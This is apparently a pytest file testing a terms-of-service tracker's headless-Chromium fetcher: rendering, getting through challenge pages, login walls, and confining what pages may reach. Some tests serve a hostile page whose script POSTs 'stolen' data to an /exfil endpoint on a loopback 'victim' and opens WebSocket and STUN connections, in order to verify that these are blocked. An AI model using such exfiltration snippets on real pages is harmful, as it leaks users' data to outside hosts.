"""Browser fetching with the system Chromium, against real HTTP servers on 127.0.0.1.

Every browser here may load from 127.0.0.1 only (`browser_allow_hosts`), but for the
tests of the address rule, which lift that list and count what reaches real servers on
127.0.0.2 and 127.0.0.3. Without Chromium these tests skip, unless
TOS_TRACKER_REQUIRE_BROWSER is set (as CI does), when they fail.
"""

from __future__ import annotations

import importlib.util
import json
import logging
import os
import shutil
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import Clock, document_entry, files_under
from pytest_httpserver import HTTPServer
from werkzeug import Request, Response

from tracker.app.pipeline import Tracker, run
from tracker.config.settings import parse_config
from tracker.core.errors import ConfigError
from tracker.fetch import browser as browser_module
from tracker.fetch.browser import find_chromium
from tracker.fetch.gate import Gate, Refused, private_address
from tracker.fetch.http import USER_AGENT, Fetcher
from tracker.storage.index import Index
from tracker.storage.store import Store

INSTALL_HINT = "install tos-tracker[browser] and the Debian chromium package"
JS_PAGE = """<!doctype html><html><head><title>Terms</title></head><body>
<nav>Menu</nav><main></main>
<script>
setTimeout(() => {
  document.querySelector("main").innerHTML =
    "<h1>Terms of Use</h1><p>These terms were rendered by a script.</p>";
}, 300);
</script></body></html>"""
REAL_PAGE = (
    "<!doctype html><html><head><title>Usage policies</title></head><body>"
    "<main><h1>Usage policies</h1><p>{text}</p></main></body></html>"
)
# A JavaScript challenge: sets a cookie and reloads; only a browser gets through.
JS_CHALLENGE = """<!doctype html><html><head><title>Just a moment...</title></head><body>
<p>Verifying you are human. This may take a few seconds.</p>
<noscript>Enable JavaScript and cookies to continue</noscript>
<script>
setTimeout(() => { document.cookie = "passed=1; path=/"; location.reload(); }, 200);
</script>
</body></html>"""
# A challenge no browser passes (it never moves on).
STUCK_CHALLENGE = (
    "<!doctype html><html><head><title>Just a moment...</title></head>"
    "<body><p>Verifying you are human.</p></body></html>"
)
LOGIN_PAGE = (
    "<!doctype html><html><head><title>Sign in</title></head><body><form method='post'>"
    "<input type='email' name='email'><input type='password' name='password'>"
    "<button>Sign in</button></form></body></html>"
)


def html(text: str, status: int = 200, **headers: str) -> Response:
    return Response(text, status=status, headers=headers, content_type="text/html")


@pytest.fixture(scope="module")
def chromium() -> str:
    found, reason = find_chromium()
    problem = None
    if found is None:
        problem = f"{reason}: install the Debian package 'chromium'"
    elif importlib.util.find_spec("playwright") is None:
        problem = "Playwright for Python is not installed: pip install tos-tracker[browser]"
    if problem:
        if os.environ.get("TOS_TRACKER_REQUIRE_BROWSER"):
            pytest.fail(problem)
        pytest.skip(problem)
    assert found is not None
    return found


@pytest.fixture
def browsing(
    make_tracker: Callable[..., Tracker], chromium: str, clock: Clock
) -> Callable[..., tuple[Tracker, Fetcher]]:
    """A tracker whose browser may load from 127.0.0.1 only, and its fetcher."""
    made: list[Fetcher] = []

    def make(documents: list[dict[str, object]], **fetch: object) -> tuple[Tracker, Fetcher]:
        settings: dict[str, object] = {
            "browser_path": chromium,
            "browser_allow_hosts": ["127.0.0.1"],
            **fetch,
        }
        tracker = make_tracker(documents, **settings)
        fetcher = Fetcher(tracker.config.fetch, clock=clock)
        made.append(fetcher)
        return tracker, fetcher

    yield make
    for fetcher in made:
        fetcher.close()


def meta_of(tracker: Tracker, document: str) -> dict[str, Any]:
    latest = tracker.store.latest_capture(document)
    assert latest is not None
    return latest.meta


def assert_reindex_gives_the_same_index(tracker: Tracker) -> None:
    """The index rebuilt from the files alone equals the one built run by run."""
    rebuilt = Index(Path(tracker.config.index_path).with_name("rebuilt.db"))
    rebuilt.rebuild(Store(tracker.config.store_path), tracker.config.sources)
    assert rebuilt.dump() == tracker.index.dump()
    rebuilt.close()


def text_of(tracker: Tracker, document: str) -> str:
    version = tracker.store.latest_version(document)
    assert version is not None
    return tracker.store.read_text(version)


def test_a_javascript_page_needs_the_browser(
    httpserver: HTTPServer, browsing, clock: Clock
) -> None:
    httpserver.expect_request("/js").respond_with_handler(lambda r: html(JS_PAGE))
    url = httpserver.url_for("/js")
    tracker, fetcher = browsing(
        [
            document_entry("test/plain", url, select=["main"]),
            document_entry("test/rendered", url, select=["main"], browser=True),
        ]
    )
    outcomes = {o.document: o for o in run(tracker, clock=clock, fetcher=fetcher).outcomes}
    plain, rendered = outcomes["test/plain"], outcomes["test/rendered"]
    assert (plain.status, plain.error_kind) == ("failed", "empty")
    assert plain.error == "the page has no readable text (is it rendered by JavaScript?)"
    assert rendered.status == "new", rendered.error
    assert text_of(tracker, "test/rendered") == (
        "# Terms of Use\n\nThese terms were rendered by a script.\n"
    )
    meta = meta_of(tracker, "test/rendered")
    assert (meta["via"], meta["status"], meta["content_type"]) == (
        "browser",
        200,
        "text/html; charset=utf-8",
    )
    assert "fallback_from" not in meta and meta["etag"] is None
    assert meta["final_url"] == url
    # The browser says who is asking, after Chromium's own User-Agent.
    agents = [request.headers.get("User-Agent", "") for request, _ in httpserver.log]
    assert agents.count(USER_AGENT) == 1
    browser_agents = [a for a in agents if a != USER_AGENT]
    assert browser_agents and all(
        "HeadlessChrome" in a and a.endswith(USER_AGENT) for a in browser_agents
    )
    assert fetcher.browser.launches == 1


def test_a_bot_wall_falls_back_to_the_browser(
    httpserver: HTTPServer, browsing, clock: Clock
) -> None:
    def guarded(request: Request) -> Response:
        if request.cookies.get("passed") == "1":
            return html(REAL_PAGE.format(text="Do not use our models for weapons."))
        return html(JS_CHALLENGE, 403, **{"cf-mitigated": "challenge"})

    httpserver.expect_request("/guarded").respond_with_handler(guarded)
    tracker, fetcher = browsing(
        [document_entry("test/guarded", httpserver.url_for("/guarded"), select=["main"])],
        timeout=10,  # the challenge passes in well under a second; 3 s flaked under load
    )
    outcome = run(tracker, clock=clock, fetcher=fetcher).outcomes[0]
    assert outcome.status == "new", outcome.error
    assert text_of(tracker, "test/guarded") == (
        "# Usage policies\n\nDo not use our models for weapons.\n"
    )
    meta = meta_of(tracker, "test/guarded")
    assert (meta["via"], meta["fallback_from"], meta["status"]) == ("browser", "bot_wall", 200)
    # The plain fetch met the wall once (a 403 is not retried); the browser got through.
    statuses = [
        (r.headers.get("User-Agent") == USER_AGENT, s.status_code) for r, s in httpserver.log
    ]
    assert statuses[0] == (True, 403)
    assert statuses[1:] == [(False, 403), (False, 200)]
    assert_reindex_gives_the_same_index(tracker)


def test_a_challenge_that_reloads_while_it_is_read_is_waited_out(
    httpserver: HTTPServer, browsing, clock: Clock
) -> None:
    """The reload lands while the challenge's HTML is being read (a big page, reloading
    just after its load event): that must count as the page moving on. It used to be
    missed, and the fetch waited out its timeout as a bot wall."""
    padding = "<!-- " + "x" * 3_000_000 + " -->"
    challenge = (
        JS_CHALLENGE.replace(
            "setTimeout(() => {", "addEventListener('load', () => setTimeout(() => {"
        )
        .replace("}, 200);", "}, 20));")
        .replace("</body>", padding + "</body>")
    )
    assert challenge.count("addEventListener") == 1 and "}, 20));" in challenge

    def guarded(request: Request) -> Response:
        if request.cookies.get("passed") == "1":
            return html(REAL_PAGE.format(text="Do not use our models for weapons."))
        return html(challenge, 403, **{"cf-mitigated": "challenge"})

    httpserver.expect_request("/guarded").respond_with_handler(guarded)
    tracker, fetcher = browsing(
        [
            document_entry(f"test/g{n}", httpserver.url_for("/guarded"), browser=True)
            for n in range(3)
        ],
        timeout=5,
        max_bytes=10_000_000,
    )
    outcomes = run(tracker, clock=clock, fetcher=fetcher).outcomes
    assert [(o.status, o.error) for o in outcomes] == [("new", None)] * 3


def test_a_challenge_page_is_never_recorded_and_history_goes_on(
    httpserver: HTTPServer, browsing, clock: Clock
) -> None:
    pages = {"now": html(REAL_PAGE.format(text="Version one."))}
    httpserver.expect_request("/terms").respond_with_handler(lambda r: pages["now"])
    tracker, fetcher = browsing(
        [document_entry("test/terms", httpserver.url_for("/terms"), select=["main"])],
        timeout=1.5,
    )
    assert run(tracker, clock=clock, fetcher=fetcher).outcomes[0].status == "new"
    first = tracker.store.latest_version("test/terms")
    before = files_under(tracker.store.root / "test")

    pages["now"] = html(STUCK_CHALLENGE)  # a 200: it looks like a page
    clock.advance(hours=1)
    failed = run(tracker, clock=clock, fetcher=fetcher).outcomes[0]
    assert (failed.status, failed.error_kind, failed.http_status) == ("failed", "bot_wall", 200)
    assert failed.error == (
        "a Cloudflare challenge page ('Just a moment...') instead of the document (HTTP 200)"
        " (in the browser, still there after 1.5 s); the plain fetch had: a Cloudflare"
        " challenge page ('Just a moment...') instead of the document (HTTP 200)"
    )
    assert files_under(tracker.store.root / "test") == before
    assert tracker.store.latest_version("test/terms") == first
    errors = tracker.index.dump()["fetch_errors"]
    assert [e["kind"] for e in errors] == ["bot_wall"]

    pages["now"] = html(REAL_PAGE.format(text="Version two."))
    clock.advance(hours=1)
    changed = run(tracker, clock=clock, fetcher=fetcher).outcomes[0]
    assert changed.status == "changed"
    assert changed.change is not None and changed.change.before == first
    assert meta_of(tracker, "test/terms")["via"] == "http"
    assert_reindex_gives_the_same_index(tracker)


def test_a_redirect_to_a_login_page_is_a_login_wall(
    httpserver: HTTPServer, browsing, clock: Clock
) -> None:
    httpserver.expect_request("/private").respond_with_data(
        "", status=302, headers={"Location": "/login?next=/private"}
    )
    httpserver.expect_request("/login").respond_with_handler(lambda r: html(LOGIN_PAGE))
    url = httpserver.url_for("/private")
    tracker, fetcher = browsing(
        [
            document_entry("test/plain", url),
            document_entry("test/rendered", url, browser=True),
        ]
    )
    outcomes = {o.document: o for o in run(tracker, clock=clock, fetcher=fetcher).outcomes}
    login = httpserver.url_for("/login") + "?next=/private"
    assert (outcomes["test/plain"].error_kind, outcomes["test/plain"].error) == (
        "login_wall",
        f"redirected to a login page ({login})",
    )
    assert (outcomes["test/rendered"].error_kind, outcomes["test/rendered"].error) == (
        "login_wall",
        f"redirected to a login page ({login}) (in the browser)",
    )
    assert tracker.store.documents() == []
    assert fetcher.browser.launches == 1  # a login wall is not worth a fallback


def test_a_selector_that_never_appears_times_out_naming_it(
    httpserver: HTTPServer, browsing, clock: Clock
) -> None:
    httpserver.expect_request("/js").respond_with_handler(lambda r: html(JS_PAGE))
    url = httpserver.url_for("/js")
    tracker, fetcher = browsing(
        [
            document_entry("test/one", url, select=["#terms"], browser=True),
            document_entry("test/two", url, select=["#terms", "article"], browser=True),
        ],
        timeout=1.5,
    )
    outcomes = {o.document: o for o in run(tracker, clock=clock, fetcher=fetcher).outcomes}
    assert (outcomes["test/one"].error_kind, outcomes["test/one"].error) == (
        "timeout",
        "selector '#terms' did not appear within 1.5 s",
    )
    assert outcomes["test/two"].error == (
        "none of the selectors '#terms', 'article' appeared within 1.5 s"
    )
    assert tracker.store.documents() == []


def test_other_hosts_are_blocked_and_never_asked(
    httpserver: HTTPServer, browsing, clock: Clock
) -> None:
    # "localhost" is this very server under another name: a request would show in its log.
    external = f"http://localhost:{httpserver.port}/external.js"
    page = (
        "<!doctype html><html><head><title>T</title>"
        f"<script src='{external}'></script></head><body><main><p>Local text.</p></main>"
        "<img src='https://cdn.example.invalid/pixel.png'></body></html>"
    )
    httpserver.expect_request("/page").respond_with_handler(lambda r: html(page))
    httpserver.expect_request("/external.js").respond_with_data(
        "document.querySelector('main').textContent = 'EXTERNAL SCRIPT RAN';",
        content_type="text/javascript",
    )
    tracker, fetcher = browsing(
        [document_entry("test/page", httpserver.url_for("/page"), select=["main"], browser=True)]
    )
    outcome = run(tracker, clock=clock, fetcher=fetcher).outcomes[0]
    assert outcome.status == "new", outcome.error
    assert text_of(tracker, "test/page") == "Local text.\n"
    assert sorted(fetcher.browser.blocked) == [external, "https://cdn.example.invalid/pixel.png"]
    assert [r.path for r, _ in httpserver.log] == ["/page"]


def test_a_page_on_a_host_not_allowed_is_not_opened(browsing, clock: Clock) -> None:
    tracker, fetcher = browsing(
        [document_entry("test/far", "https://example.invalid/terms", browser=True)]
    )
    outcome = run(tracker, clock=clock, fetcher=fetcher).outcomes[0]
    assert (outcome.error_kind, outcome.error) == (
        "blocked",
        "host 'example.invalid' is not in [fetch] browser_allow_hosts (['127.0.0.1'])",
    )
    assert fetcher.browser.launches == 0


def test_one_browser_per_run_for_many_pages_on_one_host(
    httpserver: HTTPServer, browsing, clock: Clock
) -> None:
    for n in range(4):
        httpserver.expect_request(f"/p{n}").respond_with_handler(
            lambda r, n=n: html(REAL_PAGE.format(text=f"Page {n}."))
        )
    tracker, fetcher = browsing(
        [
            document_entry(f"test/p{n}", httpserver.url_for(f"/p{n}"), browser=True)
            for n in range(4)
        ],
        workers=4,
        per_host=2,
    )
    for _ in range(2):
        summary = run(tracker, clock=clock, fetcher=fetcher)
        assert summary.failed == 0
        clock.advance(hours=1)
    assert [o.status for o in summary.outcomes] == ["unchanged"] * 4
    assert fetcher.browser.launches == 2  # started by each run, closed at its end
    assert text_of(tracker, "test/p3") == "# Usage policies\n\nPage 3.\n"


def test_a_rendered_page_over_the_size_cap_is_refused(
    httpserver: HTTPServer, browsing, clock: Clock
) -> None:
    grow = (
        "<!doctype html><html><body><main><p>Short.</p></main>"
        "<script>document.querySelector('main').textContent = 'x'.repeat(5000);</script>"
        "</body></html>"
    )
    httpserver.expect_request("/big").respond_with_handler(lambda r: html(grow))
    tracker, fetcher = browsing(
        [document_entry("test/big", httpserver.url_for("/big"), browser=True)], max_bytes=4000
    )
    outcome = run(tracker, clock=clock, fetcher=fetcher).outcomes[0]
    assert outcome.error_kind == "too_large"
    assert outcome.error is not None and "exceeds the 4000 byte cap" in outcome.error


# --- what a page may reach ------------------------------------------------------------


class Listener:
    """A real server on another loopback address that records every connection made to it.

    It counts at the socket, before any HTTP: a refused request must not even connect.
    """

    def __init__(self, host: str) -> None:
        self.received: list[bytes] = []  # the first bytes of each connection
        self._server = socket.create_server((host, 0))
        self.host, self.port = host, self._server.getsockname()[1]
        self.origin = f"http://{host}:{self.port}"
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self._server.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(4096))
                    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\nsecret")
                except OSError:
                    self.received.append(b"")

    def close(self) -> None:
        self._server.close()


@pytest.fixture
def listeners() -> Iterator[Callable[[str], Listener]]:
    made: list[Listener] = []

    def make(host: str) -> Listener:
        made.append(Listener(host))
        return made[-1]

    yield make
    for listener in made:
        listener.close()


def test_a_page_cannot_reach_other_local_addresses(
    httpserver: HTTPServer, browsing, listeners, clock: Clock
) -> None:
    """Issue 15 item 4: the probe's page POSTed to 127.0.0.2; before the fix every one of
    these connected (the POST, the iframe, the redirected image and the WebSocket). The
    listeners count connections, so a preconnect that sent nothing would show too."""
    victim, framed = listeners("127.0.0.2"), listeners("127.0.0.3")
    page = f"""<!doctype html><html><head><title>T</title></head><body>
<main><p>Terms text.</p></main>
<link rel="preconnect" href="https://{victim.host}:{victim.port}">
<iframe src="{framed.origin}/frame"></iframe>
<img src="/bounce">
<script>
fetch("{victim.origin}/exfil", {{method: "POST", mode: "no-cors", body: "stolen"}});
try {{ new WebSocket("ws://{victim.host}:{victim.port}/ws"); }} catch (e) {{}}
</script></body></html>"""
    httpserver.expect_request("/page").respond_with_handler(lambda r: html(page))
    httpserver.expect_request("/bounce").respond_with_handler(
        lambda r: Response(status=302, headers={"Location": f"{victim.origin}/via-redirect"})
    )
    tracker, fetcher = browsing(
        [document_entry("test/page", httpserver.url_for("/page"), select=["main"], browser=True)],
        browser_allow_hosts=[],  # the default: no list, so only the address rule applies
    )
    outcome = run(tracker, clock=clock, fetcher=fetcher).outcomes[0]
    assert outcome.status == "new", outcome.error
    assert text_of(tracker, "test/page") == "Terms text.\n"
    assert (victim.received, framed.received) == ([], [])
    assert set(fetcher.browser.blocked) == {
        f"{framed.origin}/frame",
        f"{victim.origin}/exfil",
        f"{victim.origin}/via-redirect",
        f"{victim.host}:{victim.port}",  # the WebSocket and the preconnect: tunnels
    }
    assert "/bounce" in [r.path for r, _ in httpserver.log]  # the redirect was asked for


def test_the_documents_own_host_stays_reachable_under_other_names_not(
    httpserver: HTTPServer, browsing, listeners, clock: Clock
) -> None:
    """The own host is exempt on any port; 'localhost' is another name, so it is judged
    by what it resolves to (loopback), though it is this very server."""
    other_port = listeners("127.0.0.1")
    page = f"""<!doctype html><html><head><title>T</title>
<script src="http://localhost:{httpserver.port}/by-name.js"></script></head>
<body><main><p>Terms text.</p></main>
<img src="{other_port.origin}/same-host.png">
<script>new WebSocket("ws://127.0.0.1:{other_port.port}/ws");</script></body></html>"""
    httpserver.expect_request("/page").respond_with_handler(lambda r: html(page))
    tracker, fetcher = browsing(
        [document_entry("test/page", httpserver.url_for("/page"), select=["main"], browser=True)],
        browser_allow_hosts=[],
    )
    outcome = run(tracker, clock=clock, fetcher=fetcher).outcomes[0]
    assert outcome.status == "new", outcome.error
    assert [r.path for r, _ in httpserver.log if r.path != "/favicon.ico"] == ["/page"]
    assert fetcher.browser.blocked == [f"http://localhost:{httpserver.port}/by-name.js"]
    # Both reach the other port: the image as a plain request, the WebSocket tunnelled.
    assert sorted(data.split(b"\r\n")[0] for data in other_port.received) == [
        b"GET /same-host.png HTTP/1.1",
        b"GET /ws HTTP/1.1",
    ]


def test_a_redirect_of_the_page_to_another_local_address_is_blocked(
    httpserver: HTTPServer, browsing, listeners, clock: Clock
) -> None:
    victim = listeners("127.0.0.2")
    httpserver.expect_request("/start").respond_with_handler(
        lambda r: Response(status=302, headers={"Location": "/hop"})
    )
    httpserver.expect_request("/hop").respond_with_handler(
        lambda r: Response(status=307, headers={"Location": f"{victim.origin}/terms"})
    )
    tracker, fetcher = browsing(
        [document_entry("test/page", httpserver.url_for("/start"), browser=True)],
        browser_allow_hosts=[],
    )
    outcome = run(tracker, clock=clock, fetcher=fetcher).outcomes[0]
    assert (outcome.status, outcome.error_kind) == ("failed", "blocked")
    assert outcome.error == "the browser may not open the page: 127.0.0.2 is a loopback address"
    assert victim.received == []
    assert [r.path for r, _ in httpserver.log] == ["/start", "/hop"]
    assert tracker.store.documents() == []


def test_a_redirect_off_browser_allow_hosts_is_blocked_before_it_is_asked(
    httpserver: HTTPServer, browsing, listeners, clock: Clock
) -> None:
    """Playwright's routes never see a redirect hop: the gate holds the allow-list too."""
    victim = listeners("127.0.0.2")
    httpserver.expect_request("/start").respond_with_handler(
        lambda r: Response(status=302, headers={"Location": f"{victim.origin}/terms"})
    )
    tracker, fetcher = browsing(
        [document_entry("test/page", httpserver.url_for("/start"), browser=True)]
    )
    outcome = run(tracker, clock=clock, fetcher=fetcher).outcomes[0]
    assert outcome.error_kind == "blocked"
    assert outcome.error == (
        "the browser may not open the page: host '127.0.0.2' is not in [fetch] browser_allow_hosts"
    )
    assert victim.received == []


def test_webrtc_sends_no_udp_to_local_addresses(
    httpserver: HTTPServer, browsing, clock: Clock
) -> None:
    """WebRTC's UDP does not go through a proxy: without `--webrtc-ip-handling-policy`
    a STUN request reached 127.0.0.2 (2 datagrams in the probe)."""
    received: list[bytes] = []
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.2", 0))
    udp.settimeout(0.2)

    def listen() -> None:
        while True:
            try:
                received.append(udp.recv(2048))
            except TimeoutError:
                continue
            except OSError:
                return

    threading.Thread(target=listen, daemon=True).start()
    stun = f"stun:127.0.0.2:{udp.getsockname()[1]}"
    page = f"""<!doctype html><html><body><main><p>Terms text.</p></main><script>
const pc = new RTCPeerConnection({{iceServers: [{{urls: "{stun}"}}]}});
pc.createDataChannel("x");
pc.createOffer().then(offer => pc.setLocalDescription(offer));
setTimeout(() => document.body.insertAdjacentHTML("beforeend", "<p id=done>done</p>"), 1500);
</script></body></html>"""
    httpserver.expect_request("/page").respond_with_handler(lambda r: html(page))
    tracker, fetcher = browsing(
        [document_entry("test/page", httpserver.url_for("/page"), select=["#done"], browser=True)],
        browser_allow_hosts=[],
    )
    outcome = run(tracker, clock=clock, fetcher=fetcher).outcomes[0]
    udp.close()
    assert outcome.status == "new", outcome.error
    assert received == []


@pytest.mark.parametrize(
    ("address", "kind"),
    [
        ("127.0.0.2", "loopback"),
        ("::1", "loopback"),
        ("10.1.2.3", "private"),
        ("192.168.0.1", "private"),
        ("169.254.169.254", "link-local"),  # cloud metadata
        ("fe80::1%eth0", "link-local"),
        ("fc00::1", "private"),  # unique-local
        ("224.0.0.1", "multicast"),
        ("ff02::1", "multicast"),
        ("0.0.0.0", "unspecified"),
        ("240.0.0.1", "reserved"),
        ("100.64.0.1", "non-public"),  # carrier-grade NAT
        ("::ffff:127.0.0.1", "loopback"),  # IPv4-mapped
        ("64:ff9b::a9fe:a9fe", "link-local"),  # NAT64 of 169.254.169.254
        ("2002:a00:1::", "private"),  # 6to4 of 10.0.0.1
        ("8.8.8.8", None),
        ("2606:4700::1111", None),
    ],
)
def test_which_addresses_a_page_may_not_reach(address: str, kind: str | None) -> None:
    assert private_address(address) == kind


def test_only_a_document_on_a_non_public_host_may_load_from_it() -> None:
    """A public document gets no leave for its host: were its name to resolve to
    127.0.0.1 later (DNS rebinding), that would be refused like any other."""
    gate = Gate(timeout=2)
    try:
        gate.begin("http://8.8.8.8/terms")
        assert gate.judge("8.8.8.8", 443) == ["8.8.8.8"]
        with pytest.raises(Refused, match=r"127\.0\.0\.1 is a loopback address"):
            gate.judge("127.0.0.1", 80)
        gate.begin("http://127.0.0.1:8080/terms")
        assert gate.judge("127.0.0.1", 9) == ["127.0.0.1"]  # its own host, any port
        with pytest.raises(Refused, match=r"127\.0\.0\.2 is a loopback address"):
            gate.judge("127.0.0.2", 8080)
        with pytest.raises(Refused, match=r"localhost \((127\.0\.0\.1|::1)\) is a loopback"):
            gate.judge("localhost", 8080)
    finally:
        gate.close()


# --- the sandbox ---------------------------------------------------------------------


def chromium_command_lines() -> list[list[str]]:
    """The command lines of the Chromium processes this process started (from /proc)."""
    children: dict[int, list[int]] = {}
    commands: dict[int, list[str]] = {}
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            stat = (entry / "stat").read_text()
            command = (entry / "cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        parent = int(stat.rsplit(")", 1)[1].split()[1])
        children.setdefault(parent, []).append(int(entry.name))
        commands[int(entry.name)] = [part.decode(errors="replace") for part in command if part]
    found, queue = [], [os.getpid()]
    while queue:
        for child in children.get(queue.pop(), []):
            queue.append(child)
            if commands.get(child) and "chromium" in commands[child][0]:
                found.append(commands[child])
    return found


@pytest.mark.skipif(os.geteuid() != 0, reason="Chromium keeps its sandbox when not root")
def test_as_root_chromium_runs_without_its_sandbox_and_says_so_once(
    httpserver: HTTPServer,
    browsing,
    clock: Clock,
    caplog: pytest.LogCaptureFixture,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(browser_module, "_UNSANDBOXED", {})  # as in a fresh process
    httpserver.expect_request("/page").respond_with_handler(
        lambda r: html(REAL_PAGE.format(text="Text."))
    )
    entry = document_entry("test/page", httpserver.url_for("/page"), browser=True)
    caplog.set_level(logging.INFO, logger="tracker.browser")
    command_lines: list[list[list[str]]] = []
    for _ in range(2):  # two fetchers, two runs each: four launches in one process
        tracker, fetcher = browsing([entry])
        for _ in range(2):
            fetcher.browser.fetch(tracker.config.sources[0])
            command_lines.append(chromium_command_lines())
            fetcher.close()
            assert fetcher.browser.sandboxed is False
            assert fetcher.browser.launch_args[-1] == "--no-sandbox"
    warnings = [r.getMessage() for r in caplog.records if r.levelno == logging.WARNING]
    assert warnings == [
        "Chromium cannot use its sandbox here (running as root): pages are rendered with"
        " --no-sandbox, confined by the network rules alone; run tos-tracker as an ordinary"
        " user to keep the sandbox"
    ]
    for lines in command_lines:
        # The browser process itself (its children rewrite their command lines).
        browsers = [line for line in lines if "--type=" not in " ".join(line)]
        assert len(browsers) == 1 and "--no-sandbox" in browsers[0]


ORDINARY_USER_FETCH = """
import json, logging, os, sys
sys.path.insert(0, sys.argv[1])
from tracker.fetch.browser import BrowserFetcher
from tracker.config.settings import FetchSettings
from tracker.core.models import Source
import test_browser
warnings = []
class Keep(logging.Handler):
    def emit(self, record):
        if record.levelno >= logging.WARNING:
            warnings.append(record.getMessage())
logging.getLogger("tracker").addHandler(Keep())
fetcher = BrowserFetcher(FetchSettings(timeout=20, browser_path=sys.argv[3]))
source = Source(id="t/p", service="T", title="T", url=sys.argv[2], browser=True)
result = fetcher.fetch(source)
lines = test_browser.chromium_command_lines()
fetcher.close()
print(json.dumps({"uid": os.geteuid(), "sandboxed": fetcher.sandboxed,
    "args": fetcher.launch_args, "lines": lines, "warnings": warnings,
    "status": result.status}))
"""


def test_an_ordinary_user_keeps_the_sandbox(
    httpserver: HTTPServer, chromium: str, tmp_path: Path
) -> None:
    """Run as `nobody` when root (as CI is), else as ourselves: no --no-sandbox anywhere."""
    httpserver.expect_request("/page").respond_with_handler(
        lambda r: html(REAL_PAGE.format(text="Text."))
    )
    command = [sys.executable, "-c", ORDINARY_USER_FETCH]
    if os.geteuid() == 0:
        setpriv = shutil.which("setpriv")
        if setpriv is None:
            pytest.skip("setpriv (util-linux) is needed to run Chromium as nobody")
        command = [setpriv, "--reuid=65534", "--regid=65534", "--clear-groups", *command]
    root = str(Path(__file__).resolve().parents[1])
    done = subprocess.run(
        [*command, root, httpserver.url_for("/page"), chromium],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=tmp_path if os.geteuid() != 0 else "/tmp",
        env={**os.environ, "HOME": "/tmp", "PYTHONPATH": f"{root}:{root}/tests"},
    )
    assert done.returncode == 0, done.stderr[-2000:]
    seen = json.loads(done.stdout.strip().splitlines()[-1])
    assert seen["uid"] != 0 and seen["status"] == 200
    assert seen["sandboxed"] is True and "--no-sandbox" not in seen["args"]
    assert seen["lines"] and not any("--no-sandbox" in line for line in seen["lines"])
    assert seen["warnings"] == []


# --- without a browser ---------------------------------------------------------------


def test_no_browser_available_is_a_clear_error(
    httpserver: HTTPServer, make_tracker, clock: Clock
) -> None:
    httpserver.expect_request("/js").respond_with_handler(lambda r: html(JS_PAGE))
    tracker = make_tracker(
        [document_entry("test/js", httpserver.url_for("/js"), select=["main"], browser=True)],
        browser_path="/nonexistent/chromium",
    )
    outcome = run(tracker, clock=clock).outcomes[0]
    assert (outcome.status, outcome.error_kind) == ("failed", "browser")
    assert outcome.error == (
        "no browser available: no Chromium at '/nonexistent/chromium' ([fetch] browser_path); "
        + INSTALL_HINT
    )
    assert tracker.store.documents() == []
    assert len(httpserver.log) == 0
    journal = json.loads(
        next((tracker.store.root / "_runs").glob("*.json")).read_text(encoding="utf-8")
    )
    assert journal["outcomes"][0]["error_kind"] == "browser"


# --- configuration -------------------------------------------------------------------

DOC = """
[[documents]]
id = "openai/usage-policies"
service = "OpenAI"
title = "Usage policies"
url = "https://openai.com/policies/usage-policies/"
"""


def parse(text: str):
    return parse_config(text, name="tracker.toml", root=Path("/srv/t"))


def test_browser_keys_parse_with_their_defaults() -> None:
    plain = parse(DOC).sources[0]
    assert (plain.browser, plain.browser_fallback) == (False, True)
    config = parse(
        '[fetch]\nbrowser_path = "bin/chromium"\nbrowser_allow_hosts = ["127.0.0.1", "CDN.test"]\n'
        + DOC
        + "browser = true\nbrowser_fallback = false\n"
    )
    assert (config.sources[0].browser, config.sources[0].browser_fallback) == (True, False)
    assert config.fetch.browser_path == "/srv/t/bin/chromium"
    assert config.fetch.browser_allow_hosts == ("127.0.0.1", "cdn.test")
    assert parse('[fetch]\nbrowser_path = "chromium"\n').fetch.browser_path == "chromium"


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (
            DOC + 'browser = "yes"\n',
            "tracker.toml: document 'openai/usage-policies': key 'browser' must be true or false,"
            " got 'yes'",
        ),
        (
            DOC + "browser_fallback = 1\n",
            "tracker.toml: document 'openai/usage-policies': key 'browser_fallback' must be true"
            " or false, got 1",
        ),
        (
            '[fetch]\nbrowser_allow_hosts = "127.0.0.1"\n',
            "tracker.toml: [fetch] key 'browser_allow_hosts' must be a list of host names such as"
            " [\"127.0.0.1\"], got '127.0.0.1'",
        ),
        (
            '[fetch]\nbrowser_path = ""\n',
            "tracker.toml: [fetch] key 'browser_path' must not be empty",
        ),
    ],
)
def test_browser_key_errors_name_the_key(text: str, message: str) -> None:
    with pytest.raises(ConfigError) as info:
        parse(text)
    assert str(info.value) == message
